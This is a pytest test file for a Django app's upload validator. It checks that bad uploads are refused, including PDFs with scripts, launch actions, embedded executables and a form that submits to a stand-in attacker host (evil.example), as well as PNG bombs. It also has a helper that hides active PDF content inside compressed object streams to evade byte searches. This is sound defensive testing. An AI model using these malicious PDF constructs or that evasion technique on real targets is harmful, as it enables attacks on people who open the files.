"""Bad files are refused with a clear message, and the rest of the draft is kept."""
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from approvals.models import DocumentVersion
from approvals.applications.services import document_upload, section_save
from tests import factories


def upload(draft, organizer, name, content, content_type="application/pdf", code="event_plan"):
    return document_upload(application=draft, user=organizer, document_type_code=code,
                           uploaded=SimpleUploadedFile(name, content, content_type=content_type))


def refused_message(draft, organizer, *args, **kwargs) -> str:
    with pytest.raises(ValidationError) as refused:
        upload(draft, organizer, *args, **kwargs)
    return refused.value.message_dict["file"][0]


def png_with_dimensions(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims the given size (a decompression bomb looks like this)."""
    original = factories.png_bytes(1, 1)
    ihdr = struct.pack(">II", width, height) + original[24:29]
    chunk = b"IHDR" + ihdr
    return original[:8] + struct.pack(">I", 13) + chunk + struct.pack(">I", zlib.crc32(chunk)) + original[33:]


def test_real_pdf_and_png_are_accepted_and_every_version_is_kept(draft, organizer):
    first = upload(draft, organizer, "plan.pdf", factories.PDF_BYTES)
    second = upload(draft, organizer, "plan.png", factories.png_bytes(), content_type="image/png")
    assert (first.number, second.number) == (1, 2)
    assert DocumentVersion.objects.filter(document__application=draft).count() == 2
    document = draft.documents.get(document_type__code="event_plan")
    assert document.current_version == second


def test_forged_extension_is_refused(draft, organizer):
    message = refused_message(draft, organizer, "plan.pdf", b"MZ\x90\x00 this is a windows program")
    assert "PDF、JPEG 或 PNG" in message


def test_pdf_content_named_as_png_is_refused(draft, organizer):
    assert "扩展名与内容不符" in refused_message(draft, organizer, "photo.png", factories.PDF_BYTES,
                                                 content_type="image/png")


def test_declared_content_type_that_contradicts_the_content_is_refused(draft, organizer):
    assert "声明的文件类型" in refused_message(draft, organizer, "plan", factories.PDF_BYTES,
                                              content_type="image/jpeg")


def test_oversized_file_is_refused(draft, organizer, settings):
    settings.DOCUMENT_MAX_BYTES = 1024
    assert "文件过大" in refused_message(draft, organizer, "big.pdf", factories.PDF_BYTES + b" " * 2048)


def test_empty_file_is_refused(draft, organizer):
    assert "文件为空" in refused_message(draft, organizer, "empty.pdf", b"")


@pytest.mark.parametrize("action", [b"/JavaScript (app.alert(1))", b"/JS (x)", b"/AA << /O 3 0 R >>",
                                    b"/Launch << /F (cmd.exe) >>", b"/J#61vaScript (obfuscated)"])
def test_pdf_with_script_or_automatic_action_is_refused(draft, organizer, action):
    content = b"%PDF-1.7\n1 0 obj << /Type /Catalog " + action + b" >> endobj\ntrailer<<>>\n%%EOF\n"
    assert "脚本" in refused_message(draft, organizer, "evil.pdf", content)


@pytest.mark.parametrize("side", [10_000, 100_000])  # over our limit; over Pillow's own bomb limit
def test_image_bomb_is_refused(draft, organizer, side):
    assert "尺寸过大" in refused_message(draft, organizer, "bomb.png", png_with_dimensions(side, side),
                                         content_type="image/png")


def test_corrupt_image_is_refused(draft, organizer):
    assert "损坏" in refused_message(draft, organizer, "broken.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64,
                                     content_type="image/png")


def test_refused_upload_keeps_the_rest_of_the_draft(draft, organizer):
    section_save(application=draft, user=organizer, section_code="overview", raw_data={"sessions": 2},
                 narrative="两场")
    upload(draft, organizer, "plan.pdf", factories.PDF_BYTES)
    refused_message(draft, organizer, "evil.pdf", b"%PDF-1.4 /JavaScript %%EOF")
    document = draft.documents.get(document_type__code="event_plan")
    assert document.current_version.number == 1
    assert draft.sections.get(section__code="overview").data == {"sessions": 2}


# ---------------------------------------------------------------------------------------------- active content
# The raw-bytes search alone missed anything inside a compressed object stream (finding 6): these PDFs keep every
# dictionary in one FlateDecode object stream, so the names a viewer acts on never appear in the file's bytes.


def packed_in_object_stream(writer) -> bytes:
    """The writer's objects as a PDF 1.5 file: dictionaries compressed into one object stream, an xref stream."""
    import io

    from pypdf.generic import StreamObject

    serialised = []
    for number, obj in enumerate(writer._objects, start=1):
        buffer = io.BytesIO()
        obj.write_to_stream(buffer)
        serialised.append((number, obj, buffer.getvalue()))
    packed = [(number, data) for number, obj, data in serialised if not isinstance(obj, StreamObject)]
    streams = [(number, data) for number, obj, data in serialised if isinstance(obj, StreamObject)]
    object_stream, xref_stream = len(serialised) + 1, len(serialised) + 2
    header, body = b"", b""
    for number, data in packed:
        header += b"%d %d " % (number, len(body))
        body += data + b"\n"
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, data in streams:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, data))
    compressed = zlib.compress(header + body)
    offsets[object_stream] = out.tell()
    out.write(b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\n"
              b"endstream\nendobj\n" % (object_stream, len(packed), len(header), len(compressed), compressed))
    offsets[xref_stream] = out.tell()
    index = {number: position for position, (number, _data) in enumerate(packed)}
    rows = b"\x00" + b"\x00" * 4 + b"\xff\xff"
    for number in range(1, xref_stream + 1):
        if number in index:
            rows += b"\x02" + struct.pack(">IH", object_stream, index[number])
        else:
            rows += b"\x01" + struct.pack(">IH", offsets[number], 0)
    compressed = zlib.compress(rows)
    root = writer.root_object.indirect_reference.idnum
    out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\n"
              b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
              % (xref_stream, xref_stream + 1, root, len(compressed), compressed, offsets[xref_stream]))
    return out.getvalue()


def one_page_writer():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def names(**entries):
    from pypdf.generic import DictionaryObject, NameObject

    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def name(value: str):
    from pypdf.generic import NameObject

    return NameObject(f"/{value}")


def text(value: str):
    from pypdf.generic import TextStringObject

    return TextStringObject(value)


def annotate(writer, **annotation):
    """Put an annotation on the first page (a link, a widget, a media player)."""
    from pypdf.generic import ArrayObject, FloatObject

    page = writer.pages[0]
    rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)])
    reference = writer._add_object(names(Type=name("Annot"), Rect=rect, **annotation))
    page[name("Annots")] = ArrayObject([reference])


def javascript_on_open(writer):
    action = names(S=name("JavaScript"), JS=text("app.alert('owned')"))
    writer.root_object[name("OpenAction")] = writer._add_object(action)


def uri_on_page_open(writer):
    # Only the /AA key makes this active: the page opens a web address by itself.
    writer.pages[0][name("AA")] = names(O=names(S=name("URI"), URI=text("http://evil.example/")))


def launch_link(writer):
    annotate(writer, Subtype=name("Link"), A=names(S=name("Launch"), F=text("cmd.exe")))


def embedded_file(writer):
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    for obj in writer._objects:  # /Type is optional on the file stream: without it only the name tree says so
        if hasattr(obj, "get_data") and obj.get("/Type") == "/EmbeddedFile":
            del obj[name("Type")]


def xfa_form(writer):
    from pypdf.generic import ArrayObject

    writer.root_object[name("AcroForm")] = names(Fields=ArrayObject(), XFA=ArrayObject([text("template"),
                                                                                          text("<xdp/>")]))


def rich_media(writer):
    annotate(writer, Subtype=name("RichMedia"), RichMediaContent=names())


def submit_form(writer):
    annotate(writer, Subtype=name("Widget"), FT=name("Btn"),
             A=names(S=name("SubmitForm"), F=names(FS=name("URL"), F=text("http://evil.example/collect"))))


@pytest.mark.parametrize(("build", "hidden"), [
    (javascript_on_open, b"/OpenAction"), (uri_on_page_open, b"/AA"), (launch_link, b"/Launch"),
    (embedded_file, b"/EmbeddedFile"), (xfa_form, b"/XFA"), (rich_media, b"/RichMedia"),
    (submit_form, b"/SubmitForm"),
], ids=["openaction-javascript", "page-aa", "launch", "embedded-file", "xfa", "richmedia", "submitform"])
def test_active_content_inside_a_compressed_object_stream_is_refused(draft, organizer, build, hidden):
    writer = one_page_writer()
    build(writer)
    content = packed_in_object_stream(writer)
    assert hidden not in content  # invisible to a search of the raw bytes
    assert "脚本" in refused_message(draft, organizer, "plan.pdf", content)
    assert draft.documents.get(document_type__code="event_plan").current_version is None


def test_clean_pdf_with_object_streams_is_accepted(draft, organizer):
    version = upload(draft, organizer, "plan.pdf", packed_in_object_stream(one_page_writer()))
    assert version.number == 1 and version.content_type == "application/pdf"


def test_opening_at_a_page_is_not_active_content(draft, organizer):
    # Office exports often carry /OpenAction [page /XYZ ...]: a destination, not an action.
    from pypdf.generic import ArrayObject, NullObject

    writer = one_page_writer()
    destination = ArrayObject([writer.pages[0].indirect_reference, name("XYZ"), NullObject(), NullObject(),
                               NullObject()])
    writer.root_object[name("OpenAction")] = destination
    assert upload(draft, organizer, "plan.pdf", packed_in_object_stream(writer)).number == 1


def test_encrypted_pdf_is_refused(draft, organizer):
    import io

    writer = one_page_writer()
    writer.encrypt(user_password="", owner_password="owner")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert "加密" in refused_message(draft, organizer, "locked.pdf", buffer.getvalue())


def test_pdf_that_cannot_be_parsed_is_refused(draft, organizer):
    assert "损坏" in refused_message(draft, organizer, "broken.pdf", b"%PDF-1.7\n" + b"\x00garbage" * 64
                                     + b"\nstartxref\n9\n%%EOF\n")


def test_pdf_with_too_many_objects_is_refused_without_walking_them(draft, organizer, monkeypatch):
    from approvals.applications import uploads

    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 3)
    assert "过于复杂" in refused_message(draft, organizer, "huge.pdf", packed_in_object_stream(one_page_writer()))


def test_pdf_check_stops_at_its_time_budget(draft, organizer, monkeypatch):
    from approvals.applications import uploads

    monkeypatch.setattr(uploads, "PDF_CHECK_SECONDS", 0)
    assert "过于复杂" in refused_message(draft, organizer, "slow.pdf", packed_in_object_stream(one_page_writer()))


def test_active_pdf_is_a_field_error_on_the_page_and_the_api_and_the_previous_version_stays(client, draft,
                                                                                            organizer):
    from rest_framework.test import APIClient

    upload(draft, organizer, "plan.pdf", factories.PDF_BYTES)
    writer = one_page_writer()
    javascript_on_open(writer)
    evil = packed_in_object_stream(writer)
    client.force_login(organizer)
    page = client.post(f"/applications/{draft.pk}/documents/", {
        "document_type": "event_plan", "event_plan-file": SimpleUploadedFile("evil.pdf", evil, "application/pdf")},
        HTTP_HX_REQUEST="true")
    assert "脚本" in page.context["form"].errors["file"][0]
    api = APIClient()
    api.force_login(organizer)
    response = api.post(f"/api/applications/{draft.pk}/documents/", {
        "document_type": "event_plan", "file": SimpleUploadedFile("evil.pdf", evil, "application/pdf")},
        format="multipart", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400 and list(response.data) == ["file"]
    assert "script" in str(response.data["file"][0]).lower()
    assert draft.documents.get(document_type__code="event_plan").current_version.number == 1
